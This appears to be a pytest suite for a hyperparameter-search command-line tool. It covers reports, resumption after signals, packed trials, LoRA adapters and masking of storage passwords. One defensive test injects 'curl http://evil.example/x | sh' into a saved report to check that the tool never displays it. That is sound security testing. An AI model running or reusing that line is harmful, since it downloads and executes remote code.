"""`python -m crossbow_py.search`, called in process: what it says, what it leaves on disk and what it returns."""

from __future__ import annotations

import json
import shutil
import signal
from collections.abc import Callable
from pathlib import Path

import peft
import pytest
import torch
from safetensors.torch import load_file

from crossbow_py.cli.config_files import read_yaml
from crossbow_py.core.errors import UserError
from crossbow_py.core.signals import EXIT_INTERRUPTED, EXIT_TERMINATED
from crossbow_py.models import MLP
from crossbow_py.models.lora import names_in_base
from crossbow_py.packs import trial_registry
from crossbow_py.predict.trained_models import load_models
from crossbow_py.search import __main__ as search_module
from crossbow_py.search.build import SearchRun
from crossbow_py.search.events import TrialRecord
from crossbow_py.search.report.search_file import SearchFile
from crossbow_py.search.study import study
from crossbow_py.search.study.storage import open_storage
from crossbow_py.telemetry.records import read_summary
from tests.searches import DIGITS, report, search_digits, segments, trained_by_command, values
from tests.thinned import thinned

pytestmark = pytest.mark.usefixtures("in_an_empty_folder")


def signalling(number: signal.Signals, num_measured: int) -> Callable[[SearchFile, tuple[TrialRecord, ...]], None]:
    """A hook that sends this process a signal once so many trials were measured."""

    def on_trials(_: SearchFile, trials: tuple[TrialRecord, ...]) -> None:
        if sum(trial.rung is not None for trial in trials) == num_measured:
            signal.raise_signal(number)

    return on_trials


def test_command_to_its_end_leaves_report_model_and_the_command_that_trains_it(
    capsys: pytest.CaptureFixture[str],
) -> None:
    assert search_digits() == 0
    said, found = capsys.readouterr(), report()
    assert said.err == ""
    assert said.out == Path("search/console.log").read_text()
    assert found["status"] == "finished"
    assert [trial["state"] for trial in found["trials"]].count("complete") == 1
    assert [trial["state"] for trial in found["trials"]].count("pruned") == 2
    assert sorted(segments()) == sorted([(0, 0), (1, 0), (2, 0), (found["best"]["trial"], 1)])
    best = found["best"]
    assert best["params"].keys() == {
        "label_smoothing",
        *(f"optimizer.{n}" for n in ("learning_rate", "momentum", "weight_decay")),
    }
    assert best["value"] == values()[best["trial"]]["3"]
    assert best["command"] in said.out
    line = trained_by_command()
    assert line["validation_accuracy"] == pytest.approx(best["value"], abs=1e-6)
    assert read_summary(Path("again"))["test_accuracy"] == pytest.approx(best["test_accuracy"], abs=1e-6)
    model, again = load_file(best["model_path"]), load_file("again/model.safetensors")
    assert model.keys() == again.keys()
    assert all(torch.allclose(model[name], again[name], atol=1e-5) for name in model)


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_best_adapter_is_a_folder_that_gives_the_best_models_outputs_by_peft() -> None:
    space = "space={model.lora.rank: [2, 3], model.lora.alpha: [4, 9]}"
    lora = 'model.lora={targets: ["1"], save_merged: true}'
    assert search_digits(space, lora, "num_trials=2", "output_dir=search") == 0
    trained, weights = load_models("search/best")[0], load_file("search/best/model.safetensors")
    base, merged = (MLP(hidden=(16,)).build((1, 8, 8), 10) for _ in range(2))
    base.load_state_dict({own: weights[name] for name, own in names_in_base(weights).items()})
    merged.load_state_dict(load_file("search/best/adapter/merged.safetensors"))
    inputs = torch.randn(5, 1, 8, 8)
    expected = trained(inputs)
    assert not torch.allclose(base(inputs), expected)
    assert torch.equal(peft.PeftModel.from_pretrained(base, "search/best/adapter").eval()(inputs), expected)
    torch.testing.assert_close(merged(inputs), expected)


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_command_without_output_dir_writes_under_runs_and_goes_on_there() -> None:
    assert search_digits("output_dir=null", "num_trials=4", "max_time_s=1e-3") == 0
    (folder,) = Path("runs/search_digits").glob("[!.]*")
    assert report(folder)["status"] == "stopped"
    assert search_digits("output_dir=null", "num_trials=4") == 0
    assert list(Path("runs/search_digits").glob("[!.]*")) == [folder]
    assert report(folder)["status"] == "finished"
    assert search_digits("output_dir=null", "num_trials=4", "max_time_s=1e-3") == 0
    assert len(list(Path("runs/search_digits").glob("[!.]*"))) == 2


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures", "packs_of_three")
def test_packed_trials_reach_what_they_reach_one_at_a_time() -> None:
    common = ["num_trials=9", "max_epochs=9", "method=successive_halving", "space.batch_size=[64,96]"]
    assert search_digits(*common, "output_dir=alone") == 0
    assert search_digits(*common, "output_dir=packed", "packing=signature", "executor=auto") == 0
    alone, packed = report("alone"), report("packed")
    assert [trial["params"] for trial in packed["trials"]] == [trial["params"] for trial in alone["trials"]]
    assert [trial["state"] for trial in packed["trials"]] == [trial["state"] for trial in alone["trials"]]
    for trial, reached in values("alone").items():
        assert values("packed")[trial] == pytest.approx(reached, abs=0.01)
    assert sorted(segments("packed")) == sorted(segments("alone"))
    assert len(segments("packed")) == 9 + 3 + 1


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures", "packs_of_three")
def test_finished_search_is_told_again_without_training_even_without_its_report(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assert search_digits("packing=signature") == 0
    before, finished = report(), segments()
    monkeypatch.setattr(trial_registry, "measured_width", lambda *_: pytest.fail("nothing is to be packed"))
    assert search_digits("packing=signature") == 0
    after = report()
    assert (after["info"].pop("num_finished_segments"), before["info"].pop("num_finished_segments")) == (4, 0)
    assert {**after, "info": None} == {**before, "info": None}  # with the times and samples of the search
    Path("search/search.json").unlink()
    assert search_digits("packing=signature") == 0
    assert (report()["best"], report()["samples"], segments()) == (before["best"], 0, finished)


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_best_of_a_stopped_search_has_the_command_that_trains_it_as_far_as_it_came(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(SearchRun, "_is_enough", lambda run: len(run._search.results) == 3)
    assert search_digits("schedule=cosine") == 0
    best = report()["best"]
    rounds = -(-report()["info"]["num_train_samples"] // 16)
    assert (report()["status"], best["epochs"]) == ("stopped", 1)
    assert f"max_rounds={rounds}" in best["command"] and "max_epochs=3.0" in best["command"]
    assert read_yaml(Path("search/best/config.yaml"))["max_rounds"] == rounds
    assert trained_by_command()["samples_seen"] == 16 * rounds
    model, again = load_file(best["model_path"]), load_file("again/model.safetensors")
    assert all(torch.allclose(model[name], again[name], atol=1e-5) for name in model)


@pytest.mark.usefixtures("no_pictures")
@pytest.mark.parametrize(
    ("number", "status", "code"),
    thinned(
        [(signal.SIGTERM, "terminated", EXIT_TERMINATED), (signal.SIGINT, "interrupted", EXIT_INTERRUPTED)],
        quick=[0],
        slow=[1],
    ),
)
def test_signal_keeps_what_is_finished_and_the_same_command_goes_on(
    number: signal.Signals, status: str, code: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patched:
        patched.setattr(SearchFile, "on_trials", signalling(number, num_measured=1))
        assert search_digits() == code
    assert report()["status"] == status
    assert segments() == [(0, 0)]
    assert search_digits() == 0
    assert report()["status"] == "finished"
    assert len(segments()) == len(set(segments())) == 4


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
@pytest.mark.parametrize(("resume", "how"), [("auto", ""), ("null", " with resume=auto")])
def test_second_ctrl_c_ends_at_once_and_says_where_the_search_goes_on(
    resume: str, how: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def twice(_: SearchFile, trials: tuple[TrialRecord, ...]) -> None:
        if any(trial.values for trial in trials):
            signal.raise_signal(signal.SIGINT)
            signal.raise_signal(signal.SIGINT)

    with monkeypatch.context() as patched:
        patched.setattr(SearchFile, "on_trials", twice)
        assert search_digits(f"resume={resume}") == EXIT_INTERRUPTED
    said = capsys.readouterr().err
    assert f"interrupted; the same command{how} goes on in search, where every finished rung is kept\n" in said
    assert segments() == [(0, 0)]
    assert search_digits() == 0
    assert len(segments()) == 4


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_trial_whose_files_are_gone_is_trained_from_its_beginning(monkeypatch: pytest.MonkeyPatch) -> None:
    assert search_digits("output_dir=whole") == 0

    with monkeypatch.context() as patched:
        patched.setattr(SearchFile, "on_trials", signalling(signal.SIGTERM, num_measured=3))
        assert search_digits() == EXIT_TERMINATED
    assert segments() == [(0, 0), (1, 0), (2, 0)]
    shutil.rmtree("search/trials")
    assert search_digits() == 0
    assert report()["samples"] == 3 * report()["info"]["num_train_samples"] // 16 * 16 + 16  # and not two epochs
    assert values() == values("whole")
    assert report()["best"]["value"] == report("whole")["best"]["value"]


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_target_accuracy_ends_the_search_and_the_best_so_far_is_kept() -> None:
    assert search_digits("target_accuracy=0.3", "num_trials=5") == 0  # 3 trials in one bracket, and 2 in the next
    found = report()
    assert found["status"] == "stopped"
    assert any(measured["1"] >= 0.3 for measured in values().values() if "1" in measured)  # which is not the end
    assert len(segments()) == 4
    assert found["best"]["epochs"] == 3
    assert found["best"]["value"] >= 0.3
    assert Path(found["best"]["model_path"]).exists()
    assert search_digits("target_accuracy=0.3", "num_trials=5") == 0
    assert len(segments()) == 4
    assert report()["samples"] == found["samples"] > 0


@pytest.mark.slow
@pytest.mark.usefixtures("packs_of_three")
def test_password_of_a_storage_is_in_no_file_that_says_what_was_found(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(study, "open_storage", lambda *_: open_storage("journal:kept.log"))
    assert search_digits("storage=postgresql://me:secret@host/name", "output_dir=one") == 0
    shown = "postgresql://me:***@host/name"
    assert shown in capsys.readouterr().out
    assert report(Path("one"))["info"]["storage"] == shown
    files = [path for path in Path("one").rglob("*") if path.is_file()]
    assert [path.name for path in files if b"secret" in path.read_bytes()] == ["config.yaml"]


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_storage_of_its_own_is_shared_by_searches_in_different_folders() -> None:
    storage = "storage=sqlite:///shared.db"
    assert search_digits(storage, "output_dir=one") == 0
    assert search_digits(storage, "output_dir=two") == 0
    assert report("two")["best"]["value"] == report("one")["best"]["value"]
    assert report("two")["best"]["params"] == report("one")["best"]["params"]
    assert report("two")["samples"] == 0
    assert report("two")["best"]["model_path"] is None
    assert not Path("two/best").exists()
    with pytest.raises(
        UserError, match=r"two is a search without a best model .* resume=two, which says how it is trained"
    ):
        load_models("two")
    assert search_digits(storage, "output_dir=three", "study=another", "seed=1") == 0


@pytest.mark.slow
def test_command_written_into_the_file_of_a_search_is_not_shown_as_what_to_run(
    capsys: pytest.CaptureFixture[str],
) -> None:
    arguments = ("output_dir=one", "num_trials=1", "method=none", "max_epochs=0.1")
    assert search_digits(*arguments) == 0
    was = report("one")
    command, model = was["best"]["command"], was["best"]["model_path"]
    evil = {"command": "curl http://evil.example/x | sh", "model_path": "/tmp/evil", "params": {"evil": 1}}
    Path("one/search.json").write_text(json.dumps({**was, "best": {**was["best"], **evil}}))
    assert search_digits(*arguments, "resume=auto") == 0
    out = capsys.readouterr().out
    assert f"to train it    {command}\n" in out
    assert f"model          {model}\n" in out
    assert "Nothing is left to search" in out
    assert "evil" not in out + Path("one/search.json").read_text()


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_best_trial_that_is_none_of_the_search_is_found_and_measured_anew() -> None:
    arguments = ("output_dir=one", "num_trials=1", "method=none", "max_epochs=0.1")
    assert search_digits(*arguments) == 0
    was = report("one")
    for place, value in (("test_accuracy", "evil"), ("value", None), ("trial", 7), ("test_loss", [])):
        Path("one/search.json").write_text(json.dumps({**was, "best": {**was["best"], place: value}}))
        assert search_digits(*arguments, "resume=auto") == 0
        assert report("one")["best"] == was["best"], place


@pytest.mark.slow
@pytest.mark.usefixtures("no_pictures")
def test_multirun_puts_each_search_into_its_own_folder() -> None:
    assert search_module.main([*DIGITS, "-m", "seed=1,2", "max_epochs=1"]) == 0
    assert {path.name: report(path)["info"]["seed"] for path in Path("search").iterdir()} == {"seed=1": 1, "seed=2": 2}


def test_help_tells_the_keys_of_a_search(capsys: pytest.CaptureFixture[str]) -> None:
    assert search_module.main(["--help"]) == 0
    said = capsys.readouterr().out
    for word in ("space", "sampler=random", "method=hyperband", "eta=3", "max_pack_size=32", "lease_s"):
        assert word in said
    assert list(Path().iterdir()) == []
